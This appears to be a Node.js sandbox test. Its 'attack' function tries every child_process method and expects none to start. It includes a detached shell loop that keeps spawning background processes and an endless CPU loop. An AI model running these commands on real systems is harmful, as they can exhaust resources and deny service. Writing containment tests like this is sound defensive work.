/* Starts processes, each way that node has, with shells that would start more.

Ends: RETURNED []
*/
const { exec, execFileSync, fork, spawn, spawnSync } = require('child_process');
const { cpus } = require('os');
async function attack() {
  const started = [];
  const shell = 'while :; do sleep 1 & done';
  for (const start of [
    () => spawn('/bin/sh', ['-c', shell], { detached: true, stdio: 'ignore' }),
    () => exec(shell),
    () => fork('/run/atlas/start.cjs'),
    () => spawn(process.execPath, ['-e', 'for (;;);']),
  ]) {
    try {
      const child = start();
      child.on('error', () => {});
      await new Promise((done) => setTimeout(done, 20));
      if (child.pid !== undefined) started.push(child.pid);
    } catch {}
  }
  if (spawnSync('/bin/true').status === 0) started.push('sync');
  try {
    execFileSync('/bin/true');
    started.push('file');
  } catch {}
  return cpus().length ? started : 'nobody';
}
